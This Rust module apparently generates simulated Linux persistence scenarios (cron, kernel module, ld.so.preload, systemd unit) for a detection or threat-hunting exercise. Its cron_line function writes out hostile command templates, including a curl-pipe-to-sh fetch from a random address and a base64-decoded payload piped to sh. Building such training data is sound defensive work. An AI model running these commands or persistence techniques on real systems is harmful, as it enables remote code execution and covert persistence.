//! Coming back after a reboot: schedules, units, modules, preloaded libraries.

use rand::Rng;

use super::super::bundled;
use super::super::plan::{Plan, Program};
use super::super::seed::{self, pick, public_address};
use super::super::shape::{self, File, Unit};
use super::{PROCESS, Scenario, daemon_name, hiding_place};

pub(super) const SCENARIOS: &[Scenario] = &[
    Scenario {
        id: "cron-line",
        title: "A line in a crontab runs a program that no other host runs.",
        attack: "T1053.003",
        subtle: false,
        plant: cron_line,
    },
    Scenario {
        id: "cron-script",
        title: "A script among the daily or hourly ones is on no other host.",
        attack: "T1053.003",
        subtle: false,
        plant: cron_script,
    },
    Scenario {
        id: "kernel-module",
        title: "A kernel module is loaded that no other host has.",
        attack: "T1547.006",
        subtle: false,
        plant: kernel_module,
    },
    Scenario {
        id: "preload",
        title: "A library is loaded into every program.",
        attack: "T1574.006",
        subtle: false,
        plant: preload,
    },
    Scenario {
        id: "systemd-unit",
        title: "A service was installed that no package brought.",
        attack: "T1543.002",
        subtle: false,
        plant: systemd_unit,
    },
];

fn cron_line(plan: &mut Plan<'_>) {
    let word = seed::letters(&mut plan.rng, 5);
    let (file, user) = match plan.rng.random_range(0..4) {
        0 => ("/var/spool/cron/crontabs/root".to_owned(), ""),
        1 => ("/var/spool/cron/crontabs/www-data".to_owned(), ""),
        2 => ("/etc/crontab".to_owned(), "root "),
        _ => (format!("/etc/cron.d/{word}"), "root "),
    };
    let address = public_address(&mut plan.rng);
    let place = hiding_place(&mut plan.rng);
    let command = match plan.rng.random_range(0..4) {
        0 => format!("{user}curl -fsSL http://{address}/{word} | sh"),
        1 => format!("{user}{place}/{word} >/dev/null 2>&1"),
        2 => format!("{user}/usr/bin/python3 {place}/{word}.py"),
        _ => format!("{user}echo {} | base64 -d | sh", seed::alnum(&mut plan.rng, 40)),
    };
    let minute = pick(&mut plan.rng, &["*", "*/5", "*/10", "17", "25", "*/30"]);
    plan.plant("crontab", shape::cron([minute, "*", "*", "*", "*"], &command, &file), &["command", "path"]);
    if file == "/etc/crontab" {
        plan.plant_content(&file, &command);
    }
}

fn cron_script(plan: &mut Plan<'_>) {
    let directory = pick(&mut plan.rng, &["/etc/cron.hourly", "/etc/cron.daily", "/etc/cron.weekly"]);
    let path = format!("{directory}/{}", daemon_name(&mut plan.rng));
    let file = File::new(&path, "0755", &path);
    plan.plant("cron_scripts", shape::cron_script(&file), &["path", "sha256"]);
}

fn kernel_module(plan: &mut Plan<'_>) {
    let stem = pick(&mut plan.rng, &["nf", "xt", "snd", "usb", "drm", "hid", "net", "crypto", "i2c", "acpi"]);
    let name = format!("{stem}_{}", seed::letters(&mut plan.rng, 5));
    let size = (plan.rng.random_range(3..12) * 4_096).to_string();
    plan.plant("kernel_modules", bundled::kernel_module(&name, &size), &["name"]);
    let path = format!("/etc/modules-load.d/{name}.conf");
    if plan.rng.random_bool(0.5) {
        plan.plant_file(&File::new(&path, "0644", &path));
    }
}

fn preload(plan: &mut Plan<'_>) {
    let library = format!("lib{}.so", seed::letters(&mut plan.rng, 5));
    let directory = pick(
        &mut plan.rng,
        &["/usr/lib/x86_64-linux-gnu", "/lib64", "/usr/local/lib", "/var/tmp", "/dev/shm"],
    );
    let path = format!("{directory}/{library}");
    plan.plant_file(&File::new(&path, "0755", &path));
    plan.plant_file(&File::new("/etc/ld.so.preload", "0644", &format!("preload {path}")));
}

fn systemd_unit(plan: &mut Plan<'_>) {
    let name = daemon_name(&mut plan.rng);
    let id = format!("{name}.service");
    let directory =
        pick(&mut plan.rng, &["/etc/systemd/system", "/lib/systemd/system", "/usr/lib/systemd/system"]);
    let fragment = format!("{directory}/{id}");
    let path = format!("{}/{name}", hiding_place(&mut plan.rng));
    let description = pick(
        &mut plan.rng,
        &["System Helper", "Network Monitor", "D-Bus Relay", "Cache Service", "Hardware Events"],
    );
    plan.plant_unit(&Unit {
        id: &id,
        description,
        active_state: "active",
        sub_state: "running",
        unit_file_state: "enabled",
        fragment_path: &fragment,
        user: "",
    });
    let short: String = name.chars().take(15).collect();
    let row = plan.process(&Program { unit: &id, ..Program::new(&short, &path, &path) });
    plan.plant("processes", row, PROCESS);
    plan.plant_file(&File::new(&path, "0755", &path));
    // /lib is a link to /usr/lib.
    let file = fragment.strip_prefix("/lib/").map_or(fragment.clone(), |rest| format!("/usr/lib/{rest}"));
    plan.plant_file(&File::new(&file, "0644", &file));
}
